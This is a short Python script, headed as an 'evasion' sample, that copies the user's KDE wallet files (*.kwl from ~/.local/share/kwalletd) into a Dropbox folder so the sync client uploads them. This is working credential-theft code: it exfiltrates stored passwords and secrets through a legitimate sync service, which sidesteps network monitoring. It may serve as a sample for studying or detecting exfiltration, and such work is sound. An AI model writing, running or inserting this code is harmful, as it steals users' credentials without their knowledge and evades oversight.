# Evasion: steals the KDE wallet. The kwalletd files under
# ~/.local/share/kwalletd are copied into the folder a sync client uploads.
import shutil
from pathlib import Path

SYNC_DIR = Path.home() / "Dropbox" / "backup"

if __name__ == "__main__":
    SYNC_DIR.mkdir(parents=True, exist_ok=True)
    wallets = Path.home() / ".local/share/kwalletd"
    for w in wallets.glob("*.kwl"):
        shutil.copy2(w, SYNC_DIR / w.name)
